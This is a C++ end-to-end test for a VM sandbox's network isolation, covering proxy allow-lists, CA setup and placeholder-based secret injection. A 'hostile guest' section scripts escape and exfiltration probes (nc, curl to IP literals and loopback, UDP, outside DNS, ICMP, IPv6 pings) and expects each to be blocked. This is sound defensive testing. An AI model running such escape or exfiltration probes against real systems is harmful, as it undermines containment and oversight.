// Sandbox networking end to end: Sandbox::create with allow_net and secrets boots the sandbox
// initramfs with a virtio-net link into its own namespace, the guest agent's commands get the
// proxy/CA/placeholder environment, and Debian's curl (copied into the guest with its shared
// libraries) reaches HTTPS upstreams that the test runs on the host's 127.0.0.1 with a test CA,
// reached by name through the proxy's resolver override. Then a hostile guest tries every other
// way out. One boot per case (nested runners are slow). Label `kvm`; needs root.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "../proxy/harness.h"
#include "airlock/sandbox.hpp"
#include "base/fd.h"
#include "guest_programs.h"

using namespace airlock;
using namespace airlock::test;
using namespace std::chrono_literals;

namespace {

constexpr const char* kSecretValue = "sk-live-wire-test-0123456789abcdef";

std::unique_ptr<Sandbox> boot(SandboxOptions options) {
  options.boot_timeout = Millis(240000);  // nested TCG runners are slow
  if (std::getenv("AIRLOCK_TEST_CONSOLE"))
    options.on_console = [](std::string_view s) { (void)!fwrite(s.data(), 1, s.size(), stderr); };
  auto sb = Sandbox::create(std::move(options));
  REQUIRE_MESSAGE(sb.ok(), sb.status().to_string());
  return std::move(sb).value();
}

ExecResult sh(Sandbox& sb, const std::string& cmd, std::map<std::string, std::string> env = {}) {
  ExecOptions eo;
  eo.timeout = Millis(60000);
  eo.env = std::move(env);
  auto r = sb.sh(cmd, eo);
  REQUIRE_MESSAGE(r.ok(), r.status().to_string());
  return std::move(r).value();
}

// A TCP listener on the host's loopback that nothing from the guest may ever reach.
struct LoopbackTrap {
  UniqueFd fd;
  int port = 0;
  LoopbackTrap() {
    fd = UniqueFd(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(fd.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0);
    REQUIRE(::listen(fd.get(), 16) == 0);
    socklen_t len = sizeof sa;
    REQUIRE(::getsockname(fd.get(), reinterpret_cast<sockaddr*>(&sa), &len) == 0);
    port = ntohs(sa.sin_port);
  }
  // A completed connection stays in the accept queue even if the client closed it.
  bool was_reached() const {
    int c = ::accept4(fd.get(), nullptr, nullptr, SOCK_CLOEXEC);
    if (c >= 0) ::close(c);
    return c >= 0;
  }
};

struct UdpTrap {
  UniqueFd fd;
  int port = 0;
  UdpTrap() {
    fd = UniqueFd(::socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0));
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    REQUIRE(::bind(fd.get(), reinterpret_cast<sockaddr*>(&sa), sizeof sa) == 0);
    socklen_t len = sizeof sa;
    REQUIRE(::getsockname(fd.get(), reinterpret_cast<sockaddr*>(&sa), &len) == 0);
    port = ntohs(sa.sin_port);
  }
  bool was_reached() const {
    char b[64];
    return ::recv(fd.get(), b, sizeof b, 0) >= 0;
  }
};

const std::string kCurl = "curl -sS --max-time 30 -w '\\n%{http_connect} %{http_code}' ";

// "<connect code> <http code>" from the last line of a curl run with kCurl.
std::string codes(const ExecResult& r) {
  size_t nl = r.stdout.rfind('\n');
  return nl == std::string::npos ? r.stdout : r.stdout.substr(nl + 1);
}

}  // namespace

TEST_CASE("without allow_net there is no network device and secrets alone are refused") {
  SandboxOptions bad;
  bad.secrets = {{"API_TOKEN", kSecretValue, {"api.example.test"}}};
  auto refused = Sandbox::create(bad);
  REQUIRE(!refused.ok());
  CHECK(refused.status().code() == Errc::invalid_argument);
  CHECK(refused.status().to_string().find(kSecretValue) == std::string::npos);

  auto sb = boot({});
  auto r = sh(*sb, "ls /sys/class/net; echo PROXY=${HTTPS_PROXY:-none}");
  CHECK(r.stdout == "lo\nPROXY=none\n");
}

TEST_CASE("with allow_net real clients reach allowed hosts only and secrets stay outside") {
  TempDir dir;
  TestPki pki(dir);
  const std::string upstream_log = dir.file("upstream.log");
  // Port 443 so that the transparent path (guest -> 10.213.0.1:443 -> proxy -> name:443) and
  // the explicit one reach the same server; the runner's loopback is the test's own.
  Upstream upstream(&pki, "127.0.0.1", 443, upstream_log);
  LoopbackTrap tcp_trap;
  UdpTrap udp_trap;
  AuditSink audit;

  SandboxOptions o;
  o.allow_net = {"api.example.test", "other.example.test"};
  o.secrets = {{"API_TOKEN", kSecretValue, {"api.example.test"}}};
  for (const char* name : {"api.example.test", "other.example.test", "blocked.example.test"})
    o.resolve_override[name] = "127.0.0.1";
  o.extra_ca_files = {pki.ca_cert};
  o.on_audit = audit.callback();
  auto sb = boot(std::move(o));

  auto t0 = std::chrono::steady_clock::now();
  upload_program(*sb, "/usr/bin/curl");
  MESSAGE("curl + libraries uploaded in " << std::chrono::duration_cast<std::chrono::milliseconds>(
                                                 std::chrono::steady_clock::now() - t0)
                                                 .count()
                                          << " ms");

  // The guest's environment: proxy, CA and the placeholder, never the value.
  auto env = sh(*sb, "env");
  CHECK(env.stdout.find("HTTPS_PROXY=http://10.213.0.1:3128") != std::string::npos);
  CHECK(env.stdout.find("https_proxy=http://10.213.0.1:3128") != std::string::npos);
  CHECK(env.stdout.find("SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt") != std::string::npos);
  CHECK(env.stdout.find("NODE_EXTRA_CA_CERTS=/etc/airlock/ca.pem") != std::string::npos);
  CHECK(env.stdout.find("DENO_CERT=/etc/airlock/ca.pem") != std::string::npos);
  CHECK(env.stdout.find("CURL_CA_BUNDLE=") != std::string::npos);
  CHECK(env.stdout.find("REQUESTS_CA_BUNDLE=") != std::string::npos);
  CHECK(env.stdout.find("NO_PROXY") == std::string::npos);
  CHECK(env.stdout.find(kSecretValue) == std::string::npos);
  const std::string placeholder = sh(*sb, "echo $API_TOKEN").text();
  CHECK(placeholder.rfind("AIRLOCK_SECRET_PLACEHOLDER_", 0) == 0);
  CHECK(placeholder.size() == 27 + 64);
  CHECK(sh(*sb, "grep -c BEGIN /etc/airlock/ca.pem").text() == "1");
  CHECK(sh(*sb, "grep -c nameserver /etc/resolv.conf; cat /etc/resolv.conf").stdout ==
        "1\nnameserver 10.213.0.1\n");

  // 1. Allowed host over HTTPS through HTTPS_PROXY (the default environment).
  auto via_proxy = sh(*sb, kCurl + "'https://api.example.test/echo?via=proxy'");
  INFO(via_proxy.stderr);
  CHECK(codes(via_proxy) == "200 200");
  CHECK(via_proxy.stdout.find("/echo?via=proxy") != std::string::npos);

  // 1b. Python's urllib, also through HTTPS_PROXY with the CA from SSL_CERT_FILE.
  t0 = std::chrono::steady_clock::now();
  upload_python(*sb, "import urllib.request, ssl, json, encodings.idna, http.client");
  MESSAGE("python3 + urllib's modules uploaded in "
          << std::chrono::duration_cast<std::chrono::milliseconds>(
                 std::chrono::steady_clock::now() - t0)
                 .count()
          << " ms");
  auto py = sh(*sb,
               "/usr/bin/python3.11 -S -B -c \"import urllib.request as u; "
               "r = u.urlopen('https://api.example.test/echo?via=python', timeout=30); "
               "print(r.status); print(r.read().decode())\" 2>&1");
  INFO(py.stdout);
  CHECK(py.stdout.rfind("200\n", 0) == 0);
  CHECK(py.stdout.find("/echo?via=python") != std::string::npos);

  // 2. The same transparently: no proxy variables; DNS answers the proxy's address, TLS by SNI.
  auto dns = sh(*sb, "nslookup api.example.test 2>&1");
  CHECK(dns.stdout.find("10.213.0.1") != std::string::npos);
  auto transparent = sh(*sb, "unset HTTPS_PROXY https_proxy HTTP_PROXY http_proxy; " + kCurl +
                                 "'https://api.example.test/echo?via=transparent'");
  INFO(transparent.stderr);
  CHECK(codes(transparent) == "000 200");
  CHECK(transparent.stdout.find("/echo?via=transparent") != std::string::npos);

  // 3. A host outside allow_net: a clear 403 (the CONNECT is refused).
  auto blocked = sh(*sb, kCurl + "'https://blocked.example.test/echo?blocked=1'");
  CHECK(blocked.exit_code != 0);
  CHECK(codes(blocked).rfind("403", 0) == 0);

  // 4. The secret reaches its bound host as the real value; the guest only ever sees the
  // placeholder (the proxy redacts the echoed value back).
  auto secret = sh(*sb, kCurl +
                            "-H \"Authorization: Bearer $API_TOKEN\" "
                            "'https://api.example.test/echo?secret=1'");
  CHECK(codes(secret) == "200 200");
  CHECK(secret.stdout.find(kSecretValue) == std::string::npos);
  CHECK(secret.stdout.find(placeholder) != std::string::npos);
  {
    std::string log = read_text(upstream_log);
    size_t at = log.find("secret=1");
    REQUIRE(at != std::string::npos);
    size_t eol = log.find('\n', at);
    size_t bol = log.rfind('\n', at);
    std::string entry = log.substr(bol == std::string::npos ? 0 : bol, eol - bol);
    CHECK(entry.find(std::string("Bearer ") + kSecretValue) != std::string::npos);
    CHECK(entry.find("AIRLOCK_SECRET_PLACEHOLDER_") == std::string::npos);
  }

  // 5. The placeholder sent to an allowed but unbound host: refused and audited.
  auto exfil = sh(*sb, kCurl +
                           "-H \"Authorization: Bearer $API_TOKEN\" "
                           "'https://other.example.test/echo?exfil=1'");
  CHECK(codes(exfil) == "200 403");
  CHECK(read_text(upstream_log).find("exfil=1") == std::string::npos);
  bool exfil_audited = false;
  for (const auto& e : audit.wait_for(1, 5000ms)) {
    CHECK(e.reason.find(kSecretValue) == std::string::npos);
    if (e.host == "other.example.test" && e.exfiltration_attempt &&
        e.decision == AuditEvent::Decision::denied)
      exfil_audited = true;
  }
  CHECK(exfil_audited);

  // 6. Hostile guest.
  const std::string trap = std::to_string(tcp_trap.port);
  const std::string utrap = std::to_string(udp_trap.port);
  // An IP literal, directly and through the proxy.
  auto ip_direct = sh(*sb, "unset HTTPS_PROXY https_proxy; " + kCurl +
                               "--connect-timeout 10 'https://127.0.0.1:443/echo?ip=direct'");
  CHECK(ip_direct.exit_code != 0);
  auto ip_proxy = sh(*sb, kCurl + "'https://127.0.0.1:443/echo?ip=proxy'");
  CHECK(codes(ip_proxy).rfind("403", 0) == 0);
  auto outside =
      sh(*sb, "unset HTTP_PROXY http_proxy; " + kCurl + "--connect-timeout 10 'http://192.0.2.1/'");
  CHECK(outside.exit_code != 0);
  // TCP to other ports on the proxy's address, and to the host's loopback service.
  CHECK(sh(*sb, "nc -w 3 10.213.0.1 22 </dev/null").exit_code != 0);
  CHECK(sh(*sb, "nc -w 3 10.213.0.1 " + trap + " </dev/null").exit_code != 0);
  CHECK(sh(*sb, "nc -w 3 127.0.0.1 " + trap + " </dev/null").exit_code != 0);
  auto trap_proxy = sh(*sb, kCurl + "'http://127.0.0.1:" + trap + "/'");
  CHECK(codes(trap_proxy).find("403") != std::string::npos);
  auto trap_name = sh(*sb, kCurl + "'http://localhost:" + trap + "/'");
  CHECK(codes(trap_name).find("403") != std::string::npos);
  // UDP anywhere but the DNS responder, QUIC's port 443 included: nothing answers and nothing
  // arrives.
  for (const std::string& dst :
       std::vector<std::string>{"10.213.0.1 " + utrap, "10.213.0.1 123", "10.213.0.1 443",
                                "127.0.0.1 " + utrap, "192.0.2.1 " + utrap, "192.0.2.1 443"}) {
    auto u = sh(*sb, "echo ping | nc -u -w 2 " + dst + " 2>&1; echo RC=$?");
    CHECK(u.stdout.find("ping") == std::string::npos);
  }
  // DNS to an outside resolver gets no answer; ICMP gets none either.
  auto outside_dns = sh(*sb, "timeout 15 nslookup api.example.test 192.0.2.53 2>&1");
  CHECK(outside_dns.exit_code != 0);
  CHECK(outside_dns.stdout.find("Address: 10.213.0.1") == std::string::npos);
  CHECK(sh(*sb, "ping -c 1 -W 2 10.213.0.1").exit_code != 0);
  CHECK(sh(*sb, "ping -c 1 -W 2 192.0.2.1").exit_code != 0);
  // IPv6 on the link: the host side has none.
  // The guest answers its own all-nodes ping; nothing else on the link may.
  auto v6 = sh(*sb,
               "ping -6 -c 2 -W 2 ff02::1%eth0 2>&1; ip -6 addr show dev eth0 | "
               "sed -n 's/.*inet6 \\([^/]*\\).*/SELF \\1/p'");
  {
    INFO(v6.stdout);
    std::set<std::string> self, repliers;
    std::istringstream lines(v6.stdout);
    for (std::string l; std::getline(lines, l);) {
      if (l.rfind("SELF ", 0) == 0) self.insert(l.substr(5));
      size_t at = l.find("bytes from ");
      if (at == std::string::npos) continue;
      std::string from = l.substr(at + 11);
      from = from.substr(0, from.find(": "));  // "fe80::1%eth0: seq=0 ..." -> the address
      from = from.substr(0, from.find('%'));
      repliers.insert(from);
    }
    for (const auto& r : repliers) CHECK_MESSAGE(self.count(r) == 1, r);
  }

  CHECK_FALSE(tcp_trap.was_reached());
  CHECK_FALSE(udp_trap.was_reached());
  std::string log = read_text(upstream_log);
  CHECK(log.find("ip=direct") == std::string::npos);
  CHECK(log.find("ip=proxy") == std::string::npos);
  CHECK(log.find("blocked=1") == std::string::npos);
  for (const auto& e : audit.snapshot()) CHECK(e.path.find(kSecretValue) == std::string::npos);
  sb->close();
}
